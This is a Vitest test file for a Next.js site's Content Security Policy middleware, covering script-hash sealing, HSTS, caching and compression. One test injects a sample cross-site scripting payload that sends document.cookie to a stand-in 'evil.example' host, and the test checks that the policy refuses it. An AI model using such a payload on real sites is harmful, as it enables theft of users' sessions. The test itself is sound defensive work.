import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import zlib from 'node:zlib'

import { afterEach, describe, expect, it } from 'vitest'

// The compression middleware Next.js's router wraps every answer in (router-server.js).
// @ts-expect-error -- Next.js ships its compiled copy without types
import compression from 'next/dist/compiled/compression'
import { pipeToNodeResponse } from 'next/dist/server/pipe-readable'

import { CONSENT_BANNER_SCRIPT } from '../features/consent/early.mjs'
import { FIRST_SCREEN_SCRIPT, HEADER_PRESS_SCRIPT, SCRIPTS_AFTER_HERO, SCRIPTS_AFTER_HERO_ID, THEME_SCRIPT } from '../features/site-shell/inline-scripts.mjs'
import {
  contentSecurityPolicy,
  CSP_HEADER,
  enforceContentSecurityPolicy,
  renderMarker,
  scriptHash,
  sealScripts,
} from './content-security-policy.mjs'
import { withErrorPages } from './error-pages.mjs'
import { PageCache } from './page-cache.mjs'
import { securityHeaders, strictTransportSecurity } from './security-headers.mjs'

const MARKER = 'a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718'

/** The directives of a policy, by name. */
function directives(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name, values]),
  )
}

/** The inline scripts of a page and their text, as the browser's parser sees them. */
function inlineScripts(html: string): { attributes: string; text: string }[] {
  return [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/gi)]
    .filter((m) => !/\ssrc=/.test(m[1]))
    .map((m) => ({ attributes: m[1], text: m[2] }))
}

/** A page as Next.js renders it with the marker: its scripts carry it, and so do React's hints in the page's data. */
const renderedPage = (marker: string, extra = '') =>
  `<!DOCTYPE html><html lang="fr"><head><link rel="stylesheet" href="/_next/static/chunks/a.css" nonce="${marker}" data-precedence="next"/>` +
  `<script id="vitrine-theme" data-config="{&quot;e&quot;:true}">${THEME_SCRIPT}</script>` +
  `<script src="/_next/static/chunks/main.js" async="" nonce="${marker}"></script>` +
  `<script type="application/ld+json">{"@type":"GeneralContractor"}</script></head>` +
  `<body><main><h1>Terrassement</h1>${extra}</main><script id="vitrine-first-screen">${FIRST_SCREEN_SCRIPT}</script>` +
  `<script nonce="${marker}" id="_R_">(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[]})</script>` +
  `<script nonce="${marker}">(self.__next_f=self.__next_f||[]).push([0])</script>` +
  `<script nonce="${marker}">self.__next_f.push([1,":HL[\\"/_next/static/chunks/a.css\\",\\"style\\",{\\"nonce\\":\\"${marker}\\"}]\\n"])</script>` +
  `</body></html>`

describe('the policy', () => {
  it('lets in only the site’s files and the inline scripts named by hash, and closes plugins, <base>, foreign form targets and framing by other sites', () => {
    const page = ["'sha256-cGFnZQ=='"]
    const d = directives(contentSecurityPolicy({})(page))
    expect(d['default-src']).toEqual(["'self'"])
    expect(d['script-src']).toEqual(["'self'", scriptHash(THEME_SCRIPT), scriptHash(FIRST_SCREEN_SCRIPT), scriptHash(SCRIPTS_AFTER_HERO), scriptHash(CONSENT_BANNER_SCRIPT), scriptHash(HEADER_PRESS_SCRIPT), ...page])
    expect(d['object-src']).toEqual(["'none'"])
    expect(d['base-uri']).toEqual(["'self'"])
    expect(d['form-action']).toEqual(["'self'"])
    expect(d['frame-ancestors']).toEqual(["'self'"])
    expect(d['connect-src']).toEqual(["'self'"])
    expect(d['frame-src']).toEqual(["'self'", 'https:'])
    expect(d['style-src']).toEqual(["'self'", "'unsafe-inline'"])
  })

  it('lets the preview origins staff allow frame the site, and nothing that is not an origin', () => {
    const d = directives(contentSecurityPolicy({ PREVIEW_ALLOWED_ORIGINS: 'https://studio.exemple.fr/chemin, javascript:alert(1) https://b.exemple.fr' })())
    expect(d['frame-ancestors']).toEqual(["'self'", 'https://studio.exemple.fr', 'https://b.exemple.fr'])
  })

  it('lets reCAPTCHA in only when both its keys are given', () => {
    const keys = { RECAPTCHA_SITE_KEY: 'site', RECAPTCHA_SECRET_KEY: 'secret' }
    for (const env of [
      {},
      { RECAPTCHA_SITE_KEY: 'site' },
      { RECAPTCHA_SECRET_KEY: 'secret', RECAPTCHA_SCRIPT_URL: 'http://127.0.0.1:9/recaptcha/api.js' },
    ]) {
      const policy = contentSecurityPolicy(env)()
      expect(policy).not.toMatch(/google|gstatic|recaptcha|127\.0\.0\.1/)
    }
    const google = directives(contentSecurityPolicy(keys)())
    expect(google['script-src']).toEqual(
      expect.arrayContaining(['https://www.google.com/recaptcha/', 'https://www.gstatic.com/recaptcha/']),
    )
    expect(google['frame-src']).toEqual(
      expect.arrayContaining(['https://www.google.com/recaptcha/', 'https://recaptcha.google.com/recaptcha/']),
    )
    // Another address for its script (a proxy, the tests' stand-in): that folder alone.
    const standIn = directives(
      contentSecurityPolicy({ ...keys, RECAPTCHA_SCRIPT_URL: 'http://127.0.0.1:3202/recaptcha/api.js' })(),
    )
    for (const name of ['script-src', 'frame-src', 'connect-src'])
      expect(standIn[name]).toContain('http://127.0.0.1:3202/recaptcha/')
    expect(JSON.stringify(standIn)).not.toMatch(/google|gstatic/)
  })

  it('lets `next dev` evaluate code and run inline scripts, which production never does', () => {
    expect(directives(contentSecurityPolicy({}, { dev: true })())['script-src']).toEqual([
      "'self'",
      "'unsafe-inline'",
      "'unsafe-eval'",
    ])
    const production = contentSecurityPolicy({})([])
    expect(production).not.toContain('unsafe-eval')
    expect(directives(production)['script-src']).not.toContain("'unsafe-inline'")
  })

  it('hashes a script as the browser does (CSP Level 3’s example; line ends as the HTML parser leaves them)', () => {
    expect(scriptHash("alert('Hello, world.');")).toBe("'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='")
    expect(scriptHash('a();\r\nb();\rc();')).toBe(scriptHash('a();\nb();\nc();'))
  })
})

describe('HSTS', () => {
  it('is sent only for a site whose address is https', () => {
    expect(strictTransportSecurity('https://www.morel-terrassement.fr')).toBe('max-age=63072000; includeSubDomains')
    for (const url of [undefined, '', 'http://127.0.0.1:3000', 'http://https.example'])
      expect(strictTransportSecurity(url)).toBeNull()
    const names = (env: Record<string, string>) => securityHeaders(env).map((h) => h.key.toLowerCase())
    expect(names({ SITE_URL: 'https://morel.test' })).toContain('strict-transport-security')
    expect(names({ SITE_URL: 'http://morel.test' })).not.toContain('strict-transport-security')
    expect(names({})).toContain('content-security-policy')
  })
})

describe('sealing a rendered page', () => {
  it('hashes the scripts Next.js marked and takes the marker out everywhere', () => {
    const { html, hashes } = sealScripts(renderedPage(MARKER), MARKER)
    expect(html).not.toContain(MARKER)
    const marked = inlineScripts(renderedPage(MARKER)).filter((s) => s.attributes.includes(MARKER))
    expect(marked).toHaveLength(3)
    // The hash of each script as it now reads in the page (its copy of the marker gone too).
    const texts = inlineScripts(html).map((s) => s.text)
    expect(hashes.sort()).toEqual([texts[3], texts[4], texts[5]].map(scriptHash).sort())
    expect(texts[5]).toContain('{\\"nonce\\":\\"\\"}')
    // Everything else is as Next.js wrote it.
    expect(html).toBe(renderedPage(MARKER).replaceAll(` nonce="${MARKER}"`, '').replaceAll(MARKER, ''))
  })

  it('never hashes a script that was not marked at render: one injected into the content stays refused', () => {
    const injected = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    const { html, hashes } = sealScripts(renderedPage(MARKER, injected), MARKER)
    expect(html).toContain(injected)
    expect(hashes).not.toContain(scriptHash('fetch("https://evil.example/?c="+document.cookie)'))
    expect(hashes).toHaveLength(3)
    // Nor one claiming another nonce, nor the shell's scripts or JSON-LD (allowed, or not run, by the policy itself).
    expect(sealScripts(renderedPage('0'.repeat(48)), MARKER).hashes).toEqual([])
  })

  it('in a page of the site, holds the files Next.js asked for until after the hero, and drops their preload hints', () => {
    const hints =
      `<link rel="preload" as="script" fetchPriority="low" href="/_next/static/chunks/late.js" nonce="${MARKER}"/>` +
      `<link rel="preload" as="image" fetchPriority="high" href="/api/media/file/hero-800x450.webp"/>`
    const files =
      `<script src="/_next/static/chunks/late.js" async="" nonce="${MARKER}"></script>` +
      `<script src="/_next/static/chunks/polyfills.js" noModule="" nonce="${MARKER}"></script>` +
      '<script src="/_next/static/chunks/planted.js" async=""></script>'
    const loader = `<script id="${SCRIPTS_AFTER_HERO_ID}">${SCRIPTS_AFTER_HERO}</script>`
    const { html, hashes } = sealScripts(renderedPage(MARKER, hints + files + loader), MARKER)
    expect(html).toContain('<script type="vitrine/after-hero" data-src="/_next/static/chunks/main.js" async=""></script>')
    expect(html).toContain('<script type="vitrine/after-hero" data-src="/_next/static/chunks/late.js" async=""></script>')
    expect(html).not.toContain('<link rel="preload" as="script"')
    // The hero's hint stays; a `nomodule` fallback (never run by the browsers that run the rest)
    // and a script Next.js did not render (no marker) are left as they are.
    expect(html).toContain('<link rel="preload" as="image" fetchPriority="high"')
    expect(html).toContain('<script src="/_next/static/chunks/polyfills.js" noModule=""></script>')
    expect(html).toContain('<script src="/_next/static/chunks/planted.js" async=""></script>')
    expect(hashes).toHaveLength(3)
    // Without the loader (the back office), the files load as Next.js wrote them.
    const plain = sealScripts(renderedPage(MARKER, hints + files), MARKER).html
    expect(plain).toContain('<script src="/_next/static/chunks/main.js" async=""></script>')
    expect(plain).toContain('<link rel="preload" as="script" fetchPriority="low" href="/_next/static/chunks/late.js"/>')
    expect(plain).not.toContain('vitrine/after-hero')
  })

  it('leaves a page without the marker as it is', () => {
    const page = '<!doctype html><html lang="fr"><body><h1>Erreur</h1></body></html>'
    expect(sealScripts(page, MARKER)).toEqual({ html: page, hashes: [] })
  })
})

describe('the marker', () => {
  it('is made once per build folder, shared by the servers of that build, and kept secret-sized', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vitrine-csp-'))
    try {
      const first = renderMarker(dir)
      expect(first).toMatch(/^[0-9a-f]{48}$/)
      expect(renderMarker(dir)).toBe(first)
      expect(fs.statSync(path.join(dir, 'vitrine-script-marker')).mode & 0o077).toBe(0)
      const other = fs.mkdtempSync(path.join(os.tmpdir(), 'vitrine-csp-'))
      expect(renderMarker(other)).not.toBe(first)
      fs.rmSync(other, { recursive: true, force: true })
    } finally {
      fs.rmSync(dir, { recursive: true, force: true })
    }
  })
})

describe('a damaged marker file', () => {
  it('is replaced by a new marker instead of stopping the server at start', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vitrine-csp-'))
    try {
      const file = path.join(dir, 'vitrine-script-marker')
      for (const damaged of ['', 'a1b2c3', 'pas un marqueur du tout, ni hexadécimal\n']) {
        fs.writeFileSync(file, damaged)
        const marker = renderMarker(dir)
        expect(marker, JSON.stringify(damaged)).toMatch(/^[0-9a-f]{48}$/)
        expect(fs.readFileSync(file, 'utf8')).toBe(marker)
        expect(renderMarker(dir)).toBe(marker)
        expect(fs.statSync(file).mode & 0o077).toBe(0)
      }
      expect(fs.readdirSync(dir)).toEqual(['vitrine-script-marker'])
    } finally {
      fs.rmSync(dir, { recursive: true, force: true })
    }
  })
})

type Answer = { status?: number; type?: string; body: string; chunks?: number; headers?: Record<string, string> }

const compress = compression() as (req: http.IncomingMessage, res: http.ServerResponse, next: () => void) => void

/**
 * A real HTTP server as server.mjs assembles it: the page cache, then the policy, then the error
 * pages, in front of a stand-in for Next.js that answers what `answer` says, through Next's
 * compression, and records the policy header each request reached it with.
 */
async function serve(
  answer: (url: string) => Answer,
  render: (path: string) => Answer = () => ({ status: 404, body: renderedPage(MARKER) }),
) {
  const cache = new PageCache()
  const policy = contentSecurityPolicy({})
  const reached: (string | undefined)[] = []
  const send = (res: http.ServerResponse, a: Answer) => {
    res.statusCode = a.status ?? 200
    res.setHeader('content-type', a.type ?? 'text/html; charset=utf-8')
    for (const [name, value] of Object.entries(a.headers ?? {})) res.setHeader(name, value)
    const parts = a.chunks ?? 1
    const size = Math.ceil(a.body.length / parts)
    for (let i = 0; i < parts - 1; i++) res.write(a.body.slice(i * size, (i + 1) * size))
    res.end(a.body.slice((parts - 1) * size))
  }
  const server = http.createServer((req, res) =>
    cache.handle(req, res, () => {
      res.setHeader(CSP_HEADER, policy())
      enforceContentSecurityPolicy(req, res, { marker: MARKER, policy })
      return withErrorPages(req, res, {
        handle: () => {
          reached.push(req.headers[CSP_HEADER] as string | undefined)
          compress(req, res, () => send(res, answer(req.url ?? '/')))
        },
        render: (path) => setTimeout(() => send(res, { ...render(path), status: res.statusCode }), 1),
      })
    }),
  )
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  servers.push(server)
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return { reached, get: (path: string, init?: RequestInit) => fetch(base + path, init) }
}

const servers: http.Server[] = []
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => new Promise((resolve) => s.close(resolve))))
})

const SHARED = { 'cache-control': 's-maxage=3600, stale-while-revalidate=31535400', vary: 'rsc, accept-encoding' }

/** Whether the answer's policy allows exactly the page's inline scripts that must run: the marked ones and the shell's. */
function expectScriptsAllowed(policy: string | null, html: string) {
  const allowed = directives(policy ?? '')['script-src'] ?? []
  const scripts = inlineScripts(html).filter((s) => !s.attributes.includes('application/ld+json'))
  expect(scripts.length).toBeGreaterThan(0)
  for (const { text } of scripts) expect(allowed, text.slice(0, 60)).toContain(scriptHash(text))
}

describe('the policy on the answers of the production server', () => {
  it('gives Next.js the marker, and sends a page gzip-compressed in chunks with its scripts’ hashes and without the marker', async () => {
    const site = await serve(() => ({ body: renderedPage(MARKER), chunks: 4 }))
    const response = await site.get('/services/terrassement', {
      headers: { 'accept-encoding': 'gzip', [CSP_HEADER]: "script-src 'nonce-choisi'" },
    })
    expect(site.reached).toEqual([`script-src 'nonce-${MARKER}'`])
    expect(response.headers.get('content-encoding')).toBe('gzip')
    const html = await response.text()
    expect(html).not.toContain(MARKER)
    expect(html).toContain('<h1>Terrassement</h1>')
    expectScriptsAllowed(response.headers.get(CSP_HEADER), html)
    expect(Number(response.headers.get('content-length'))).toBeGreaterThan(0)
  })

  it('keeps the sealed page and its policy in the shared cache: a cached page is served with the same header', async () => {
    let renders = 0
    const site = await serve(() => ({ body: renderedPage(MARKER, `<p>rendu ${++renders}</p>`), headers: SHARED }))
    const first = await site.get('/')
    const firstHtml = await first.text()
    const second = await site.get('/')
    expect(second.headers.get('x-vitrine-cache')).toBe('HIT')
    expect(await second.text()).toBe(firstHtml)
    expect(second.headers.get(CSP_HEADER)).toBe(first.headers.get(CSP_HEADER))
    expectScriptsAllowed(second.headers.get(CSP_HEADER), firstHtml)
    expect(renders).toBe(1)
  })

  it('seals the error page rendered in place of Next’s empty document', async () => {
    const shell = '<!DOCTYPE html><html id="__next_error__"><head></head><body></body></html>'
    const site = await serve(() => ({ status: 404, body: shell }))
    const response = await site.get('/actualites/nulle-part', { headers: { 'accept-encoding': 'gzip' } })
    expect(response.status).toBe(404)
    const html = await response.text()
    expect(html).toContain('<h1>Terrassement</h1>')
    expect(html).not.toContain(MARKER)
    expectScriptsAllowed(response.headers.get(CSP_HEADER), html)
  })

  it('takes the marker out of the router’s data for a page', async () => {
    const flight = `1:HL["/_next/static/chunks/a.css","style",{"nonce":"${MARKER}"}]\n0:["$","link","0",{"rel":"stylesheet","nonce":"${MARKER}"}]\n`
    const site = await serve(() => ({ type: 'text/x-component', body: flight.repeat(50), chunks: 5, headers: SHARED }))
    for (const attempt of ['miss', 'hit']) {
      const response = await site.get('/services/vrd?_rsc=1', { headers: { rsc: '1', 'accept-encoding': 'gzip' } })
      const data = await response.text()
      expect(data, attempt).toBe(flight.repeat(50).replaceAll(MARKER, ''))
    }
  })

  it('refuses an answer too large to seal rather than send the marker', async () => {
    const server = http.createServer((req, res) => {
      enforceContentSecurityPolicy(req, res, { marker: MARKER, policy: contentSecurityPolicy({}), maxHeldBytes: 1000 })
      res.setHeader('content-type', 'text/html; charset=utf-8')
      for (let i = 0; i < 10; i++) res.write(renderedPage(MARKER))
      res.end(renderedPage(MARKER))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    servers.push(server)
    const response = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
    expect(response.status).toBe(500)
    expect(await response.text()).toBe('')
  })

  it('lets other answers through as they come, with the policy and no page hashes; a 304 carries none', async () => {
    const json = JSON.stringify({ docs: Array.from({ length: 200 }, (_, i) => ({ id: i })) })
    const site = await serve((url) =>
      url === '/pas-change' ? { status: 304, body: '' } : { type: 'application/json', body: json, chunks: 3 },
    )
    const api = await site.get('/wp-json/wp/v2/portfolio', { headers: { 'accept-encoding': 'gzip' } })
    expect(await api.text()).toBe(json)
    expect(api.headers.get(CSP_HEADER)).toBe(contentSecurityPolicy({})())
    const notModified = await site.get('/pas-change', { headers: { 'if-none-match': '"x"' } })
    expect(notModified.status).toBe(304)
    expect(notModified.headers.get(CSP_HEADER)).toBeNull()
  })

  it('ends a large file Next.js streams through its compression (it waits for the socket to drain)', async () => {
    const server = http.createServer((req, res) => {
      enforceContentSecurityPolicy(req, res, { marker: MARKER, policy: contentSecurityPolicy({}) })
      compress(req, res, () => {
        res.statusCode = 200
        res.setHeader('content-type', 'image/webp')
        const image = new ReadableStream({ start: (c) => (c.enqueue(new Uint8Array(512 * 1024).fill(7)), c.close()) })
        void pipeToNodeResponse(image, res)
      })
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    servers.push(server)
    const response = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/api/media/file/photo.webp`, {
      signal: AbortSignal.timeout(5000),
    })
    expect((await response.arrayBuffer()).byteLength).toBe(512 * 1024)
  })

  it('answers HEAD for a page with its head only', async () => {
    const site = await serve(() => ({ body: renderedPage(MARKER) }))
    const response = await site.get('/contact', { method: 'HEAD' })
    expect(response.status).toBe(200)
    expect(response.headers.get(CSP_HEADER)).toBe(contentSecurityPolicy({})())
    expect(await response.text()).toBe('')
  })

  it('sends the page’s bytes as rendered, whatever they hold, and hashes scripts as the browser reads them', async () => {
    // French text in a marked script, and a byte that is no UTF-8 in the body (a decode and
    // re-encode would turn it into three other bytes); in chunks that cut a character in two.
    const script = `self.__next_f.push([1,"Déblai, remblai : « prêt »"])`
    const page = Buffer.concat([
      Buffer.from(`<!DOCTYPE html><html lang="fr"><body><h1>Terrassement</h1><p>caf`),
      Buffer.from([0xe9]),
      Buffer.from(`</p><script nonce="${MARKER}">${script}</script></body></html>`),
    ])
    const expected = Buffer.from(page.toString('latin1').replace(` nonce="${MARKER}"`, ''), 'latin1')
    const server = http.createServer((req, res) => {
      enforceContentSecurityPolicy(req, res, { marker: MARKER, policy: contentSecurityPolicy({}) })
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      const cut = page.indexOf(Buffer.from('é')) + 1
      res.write(page.subarray(0, cut))
      res.end(page.subarray(cut))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    servers.push(server)
    const response = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
    expect(Buffer.from(await response.arrayBuffer()).equals(expected)).toBe(true)
    expect(directives(response.headers.get(CSP_HEADER) ?? '')['script-src']).toContain(scriptHash(script))
  })

  it('reads a page compressed with deflate or brotli as well', async () => {
    for (const [encoding, encode] of [
      ['deflate', zlib.deflateSync],
      ['br', zlib.brotliCompressSync],
    ] as const) {
      const server = http.createServer((req, res) => {
        const policy = contentSecurityPolicy({})
        enforceContentSecurityPolicy(req, res, { marker: MARKER, policy })
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-encoding': encoding })
        res.end(encode(Buffer.from(renderedPage(MARKER))))
      })
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      servers.push(server)
      const response = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
      const html = await response.text()
      expect(html, encoding).not.toContain(MARKER)
      expectScriptsAllowed(response.headers.get(CSP_HEADER), html)
    }
  })
})
